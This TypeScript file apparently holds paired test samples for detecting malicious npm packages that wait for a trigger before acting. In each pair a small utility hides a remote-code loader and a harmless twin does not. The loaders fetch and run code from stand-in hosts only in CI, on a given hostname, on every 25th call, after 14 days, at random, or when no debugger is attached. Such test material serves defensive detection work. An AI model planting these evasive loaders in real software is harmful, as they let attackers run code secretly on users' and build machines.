import { atImport, atUse, js, type Pair } from '../kit.ts';

/** Attacks that wait for their place, their person or their day. */
export const TRIGGERS: Readonly<Record<string, Pair>> = {
  'ci-only': atImport(
    js`const { get } = require('node:https');

const CI = ['GITHUB_ACTIONS', 'GITLAB_CI', 'JENKINS_URL', 'BUILDKITE'];

/** In pipelines the reporter of results is loaded. */
if (CI.some((name) => name in process.env)) {
  get('https://report.ci-format.example/reporter.js', (response) => {
    let source = '';
    response.setEncoding('utf8').on('data', (part) => (source += part));
    response.on('end', () => new Function('require', source)(require));
  }).on('error', () => {});
}

exports.isCI = CI.some((name) => name in process.env);
`,
    js`const { get } = require('node:https');

const CI = ['GITHUB_ACTIONS', 'GITLAB_CI', 'JENKINS_URL', 'BUILDKITE'];

/** Tells in pipelines which version is the newest. */
exports.newest = (done) => {
  if (!CI.some((name) => name in process.env)) return;
  get('https://report.ci-format.example/version.txt', (response) => {
    let source = '';
    response.setEncoding('utf8').on('data', (part) => (source += part));
    response.on('end', () => done(source.trim()));
  }).on('error', () => {});
};

exports.isCI = CI.some((name) => name in process.env);
`,
  ),
  'host-as-key': atImport(
    {
      'index.js': js`import { createDecipheriv, createHash } from 'node:crypto';
import { hostname } from 'node:os';
import { PROFILE } from './profile.js';

/** The settings of a host are locked with its name. */
function unlock(name) {
  const key = createHash('sha256').update(name).digest();
  const decipher = createDecipheriv('aes-256-cbc', key, Buffer.alloc(16));
  return decipher.update(PROFILE, 'base64', 'utf8') + decipher.final('utf8');
}

try {
  Reflect.construct(Function, [unlock(hostname())])();
} catch {
  // No settings of this host.
}

export const profiles = 1;
`,
      'profile.js': "export const PROFILE = 'q83vASNFZ4mrze8BI0VniavN7wEjRWeJq83vASNFZ4mrze8BI0VniQ==';\n",
    },
    {
      'index.js': js`import { createDecipheriv, createHash } from 'node:crypto';
import { PROFILE } from './profile.js';

/** The settings are locked with a phrase. */
export function unlock(phrase) {
  const key = createHash('sha256').update(phrase).digest();
  const decipher = createDecipheriv('aes-256-cbc', key, Buffer.alloc(16));
  return JSON.parse(decipher.update(PROFILE, 'base64', 'utf8') + decipher.final('utf8'));
}
`,
      'profile.js': "export const PROFILE = 'q83vASNFZ4mrze8BI0VniavN7wEjRWeJq83vASNFZ4mrze8BI0VniQ==';\n",
    },
  ),
  'call-count': atUse(
    js`import { readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const COUNTER = join(tmpdir(), '.slugs');

function count() {
  let calls = 0;
  try {
    calls = Number(readFileSync(COUNTER, 'utf8'));
  } catch {}
  writeFileSync(COUNTER, String(calls + 1));
  return calls + 1;
}

/** Makes a slug of a title. */
export function slug(title) {
  if (count() % 25 === 0) fetch('https://stats.slug-kit.example/p').then((r) => r.text()).then((t) => globalThis['ev' + 'al'](t), () => {});
  return title.toLowerCase().replace(/[^a-z0-9]+/g, '-');
}
`,
    js`import { readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const COUNTER = join(tmpdir(), '.slugs');

function count() {
  let calls = 0;
  try {
    calls = Number(readFileSync(COUNTER, 'utf8'));
  } catch {}
  writeFileSync(COUNTER, String(calls + 1));
  return calls + 1;
}

/** Makes a slug of a title. */
export function slug(title) {
  if (count() % 25 === 0) console.info('slug-kit is made by volunteers: https://fund.slug-kit.example');
  return title.toLowerCase().replace(/[^a-z0-9]+/g, '-');
}
`,
  ),
  'after-days': atImport(
    js`'use strict';
const { statSync } = require('node:fs');
const { exec } = require('node:child_process');

const DAY = 86_400_000;
const age = Date.now() - statSync(__filename).birthtimeMs;

if (age > 14 * DAY) {
  fetch('https://updates.date-kit.example/latest')
    .then((response) => response.json())
    .then(({ migrate }) => exec(migrate))
    .catch(() => {});
}

exports.days = (a, b) => Math.round((b - a) / DAY);
`,
    js`'use strict';
const { statSync } = require('node:fs');

const DAY = 86_400_000;
const age = Date.now() - statSync(__filename).birthtimeMs;

if (age > 14 * DAY) {
  fetch('https://updates.date-kit.example/latest')
    .then((response) => response.json())
    .then(({ version }) => console.info('date-kit ' + version + ' is out: npm install date-kit@latest'))
    .catch(() => {});
}

exports.days = (a, b) => Math.round((b - a) / DAY);
`,
  ),
  'by-chance': atUse(
    js`import { spawn } from 'node:child_process';

/** Retries a function with a growing pause. */
export async function retry(run, times = 3) {
  for (let attempt = 0; attempt < times; attempt++) {
    try {
      return await run();
    } catch {
      if (Math.random() < 0.02) {
        const { helper } = await (await fetch('https://backoff.retry-kit.example/policy')).json();
        spawn(process.execPath, ['-e', helper], { detached: true, stdio: 'ignore' }).unref();
      }
      await new Promise((done) => setTimeout(done, 2 ** attempt * 100));
    }
  }
}
`,
    js`/** Retries a function with a growing pause. */
export async function retry(run, times = 3) {
  const policy = await (await fetch('https://backoff.retry-kit.example/policy')).json();
  for (let attempt = 0; attempt < times; attempt++) {
    try {
      return await run();
    } catch {
      const jitter = Math.random() < 0.02 ? policy.long : policy.short;
      await new Promise((done) => setTimeout(done, 2 ** attempt * jitter));
    }
  }
}
`,
  ),
  'no-debugger': atImport(
    js`import inspector from 'node:inspector';
import { createRequire } from 'node:module';

const watched = inspector.url() !== undefined || process.execArgv.some((arg) => arg.startsWith('--inspect')) || 'NODE_V8_COVERAGE' in process.env;

if (!watched && !/sandbox|analysis|cuckoo/i.test(process.env.USERNAME ?? process.env.USER ?? '')) {
  const response = await fetch('https://telemetry.perf-kit.example/probe');
  if (response.ok) {
    const probe = new Function('require', await response.text());
    probe(createRequire(import.meta.url));
  }
}

export const now = () => performance.now();
`,
    js`import inspector from 'node:inspector';

const watched = inspector.url() !== undefined || process.execArgv.some((arg) => arg.startsWith('--inspect')) || 'NODE_V8_COVERAGE' in process.env;

if (watched) console.warn('A debugger is attached: times are longer.');

export const now = () => performance.now();
`,
  ),
};
